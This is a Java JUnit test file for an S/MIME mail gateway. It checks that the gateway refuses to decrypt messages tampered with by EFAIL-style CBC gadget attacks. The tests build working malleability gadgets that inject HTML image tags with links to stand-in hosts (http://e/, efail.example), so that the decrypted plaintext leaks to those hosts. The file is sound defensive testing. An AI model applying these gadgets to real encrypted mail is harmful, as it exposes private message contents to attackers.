package org.smimegate.core.cms;

import static org.assertj.core.api.Assertions.assertThat;
import static org.smimegate.core.cms.HandMadeSigner.signedData;
import static org.smimegate.core.cms.SmimeMail.HEADER;
import static org.smimegate.core.cms.SmimeMail.bytes;
import static org.smimegate.core.cms.SmimeMail.opaque;
import static org.smimegate.core.cms.SmimeMail.opaqueEntity;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.bouncycastle.asn1.DEROctetString;
import org.bouncycastle.asn1.nist.NISTObjectIdentifiers;
import org.bouncycastle.asn1.x509.AlgorithmIdentifier;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.smimegate.core.cms.TestOpener.Opened;
import org.smimegate.core.outcome.Decryption;
import org.smimegate.core.outcome.Reason;
import org.smimegate.core.outcome.SignatureResult;
import org.smimegate.core.testing.OpenSsl;
import org.smimegate.core.testing.TestIdentity;
import org.smimegate.core.testing.TestPki;

/**
 * FAIL-CLOSED.md rule 10 against the attacks that made old mail clients send the plaintext to a stranger (EFAIL, 2018).
 * The stranger has the ciphertext, knows its first 16 octets of plaintext and has no key: each gadget is built from that
 * alone, and OpenSSL, which decrypts whatever it gets, shows that it works.
 */
class CbcGadgetTest {
    private static final int BLOCK = 16;
    private static final String SECRET = "the price is four million";
    private static final byte[] KNOWN = bytes("Content-Type: te");

    private final TestPki pki = TestPki.shared();
    private final TestIdentity dave = pki.good("dave@example.net");
    private TestOpener opener;
    private OpenSsl openssl;

    @BeforeEach
    void setUp(@TempDir Path spool, @TempDir Path folder) throws Exception {
        opener = TestOpener.in(spool).keys(dave);
        openssl = OpenSsl.in(folder);
    }

    static Stream<String> fields() {
        return Stream.of(
                "Content-Type: text/html; charset=utf-8; x-y=abc\r\n\r\n",
                "Content-Type: text/html\r\nContent-Transfer-Encoding: 8bit\r\n\r\n",
                "Content-Type: text/html\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n",
                "Content-Type: text/html\r\nContent-Transfer-Encoding: binary\r\n\r\n",
                "Content-Type: text/html; charset=iso-8859-1\r\nContent-Transfer-Encoding: 7bit\r\n\r\n");
    }

    /** An image is put before the text, so that the text is a part of its address. */
    @ParameterizedTest
    @MethodSource("fields")
    void shouldStayEncrypted_whenTheTextBecomesPartOfALink(String fields) throws Exception {
        byte[] iv = new byte[BLOCK];
        String content = padded(fields) + SECRET + "\r\n";
        byte[] encrypted = HandMadeEnvelope.cbcEncrypted(bytes(content), iv);
        int at = padded(fields).length();
        byte[] attacked = enveloped(
                iv,
                Arrays.copyOf(encrypted, at),
                gadget(iv, encrypted, "<img x=\"", "\" src=\"http://e/"),
                Arrays.copyOfRange(encrypted, at - BLOCK, encrypted.length));

        assertExfiltrates(attacked);
        assertStaysEncrypted(opaque(attacked, "enveloped-data"));
    }

    /** The gadget is written over the start of what Bob signed; his signature is broken, the rest would be readable. */
    @Test
    void shouldStayEncrypted_whenTheLinkIsInsideASignedObject() throws Exception {
        byte[] iv = new byte[BLOCK];
        TestIdentity bob = pki.good("bob@example.org");
        byte[] html = bytes("Content-Type: text/html\r\n\r\n" + " ".repeat(160) + SECRET + "\r\n");
        byte[] object = signedData(html, List.of(bob), new HandMadeSigner(bob).sign(html));
        String fields = "Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: binary\r\n\r\n";
        byte[] content = joined(bytes(fields), object);
        byte[] encrypted = HandMadeEnvelope.cbcEncrypted(content, iv);
        int blanks = (latin1(content).indexOf(" ".repeat(100)) / BLOCK + 2) * BLOCK;
        byte[] known = Arrays.copyOf(content, BLOCK);
        byte[] gadget = gadget(iv, encrypted, known, "<img x=\"", "\" src=\"http://e/");
        System.arraycopy(gadget, 0, encrypted, blanks, gadget.length);
        byte[] attacked = enveloped(iv, encrypted);

        assertExfiltrates(attacked);
        assertStaysEncrypted(opaque(attacked, "enveloped-data"));
    }

    /** Without changing the ciphertext: parts of a link before and behind it. */
    @ParameterizedTest
    @ValueSource(strings = {"mixed", "related", "alternative", "signed"})
    void shouldStayEncrypted_whenTheCiphertextStandsBetweenPartsOfALink(String subtype) throws Exception {
        byte[] cms = encrypted("Content-Type: text/plain\r\n\r\n" + SECRET + "\r\n");
        String message = HEADER + "Content-Type: multipart/" + subtype + "; boundary=x\r\n\r\n--x\r\n"
                + "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/\r\n--x\r\n"
                + opaqueEntity(cms, "enveloped-data")
                + "\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n";

        Opened opened = opener.removing().open(message);

        assertThat(opened.verdict().decryption()).isEmpty();
        assertThat(opened.verdict().isVerified()).isFalse();
        assertThat(opened.keysUsed()).isEmpty();
        assertThat(opened.text()).isEqualTo(message);
    }

    private byte[] encrypted(String content) throws Exception {
        return new HandMadeEnvelope().to(dave).cbc(bytes(content));
    }

    /** The wrapped message is attached as a whole: it is somebody else's, and not ours to open. */
    @Test
    void shouldStayEncrypted_whenTheCiphertextIsAttached() throws Exception {
        byte[] cms = encrypted("Content-Type: text/plain\r\n\r\n" + SECRET + "\r\n");
        String message = HEADER + "Content-Type: message/rfc822\r\n\r\n" + opaque(cms, "enveloped-data");

        Opened opened = opener.open(message);

        assertThat(opened.verdict().decryption()).isEmpty();
        assertThat(opened.text()).isEqualTo(message);
    }

    /** The gadget unharmed: what its author wrote and nobody changed is opened. */
    @Test
    void shouldOpen_whenNothingWasChanged() throws Exception {
        String content = padded("Content-Type: text/html; charset=utf-8\r\n\r\n") + SECRET + "\r\n";

        Opened opened = opener.open(opaque(encrypted(content), "enveloped-data"));

        assertThat(opened.verdict().decryption()).contains(Decryption.DECRYPTED);
        assertThat(opened.text()).endsWith(content);
    }

    private void assertExfiltrates(byte[] cms) throws Exception {
        String plaintext = latin1(openssl.cmsOutput(
                cms, "-decrypt", "-inform", "DER", "-inkey", openssl.key(dave), "-recip", openssl.certificate(dave)));
        assertThat(plaintext).contains("<img x=\"", "\" src=\"http://e/", SECRET);
        assertThat(plaintext.indexOf("\" src=\"http://e/")).isLessThan(plaintext.indexOf(SECRET));
    }

    private void assertStaysEncrypted(String message) throws Exception {
        Opened opened = opener.removing().open(message);

        assertThat(opened.verdict().decryption()).contains(Decryption.REFUSED);
        assertThat(opened.verdict().reason()).contains(Reason.UNAUTHENTICATED);
        assertThat(opened.verdict().signature()).contains(SignatureResult.NONE);
        assertThat(opened.keysUsed()).isEmpty();
        assertThat(opened.text())
                .isEqualTo(
                        "Authentication-Results: gw.example.net;\r\n smime=none reason=unauthenticated\r\n" + message);
    }

    private static byte[] gadget(byte[] iv, byte[] encrypted, String... texts) {
        return gadget(iv, encrypted, KNOWN, texts);
    }

    /**
     * For each text two blocks: the first decrypts to noise, the second to the text, for it is the first block of the
     * message (whose plaintext is known) after a block that was chosen for it.
     */
    private static byte[] gadget(byte[] iv, byte[] encrypted, byte[] known, String... texts) {
        ByteArrayOutputStream blocks = new ByteArrayOutputStream();
        for (String text : texts) {
            byte[] wanted = bytes((text + " ".repeat(BLOCK)).substring(0, BLOCK));
            byte[] before = new byte[BLOCK];
            for (int i = 0; i < BLOCK; i++) {
                before[i] = (byte) (iv[i] ^ known[i] ^ wanted[i]);
            }
            blocks.writeBytes(before);
            blocks.write(encrypted, 0, BLOCK);
        }
        return blocks.toByteArray();
    }

    private byte[] enveloped(byte[] iv, byte[]... ciphertext) throws Exception {
        AlgorithmIdentifier cipher =
                new AlgorithmIdentifier(NISTObjectIdentifiers.id_aes256_CBC, new DEROctetString(iv));
        return new HandMadeEnvelope().to(dave).enveloped(cipher, joined(ciphertext));
    }

    private static byte[] joined(byte[]... pieces) {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        for (byte[] piece : pieces) {
            all.writeBytes(piece);
        }
        return all.toByteArray();
    }

    /** Header fields that fill whole blocks. */
    private static String padded(String fields) {
        int missing = (BLOCK - fields.length() % BLOCK) % BLOCK;
        return fields.replaceFirst("\r\n\r\n$", " ".repeat(missing) + "\r\n\r\n");
    }

    private static String latin1(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }
}
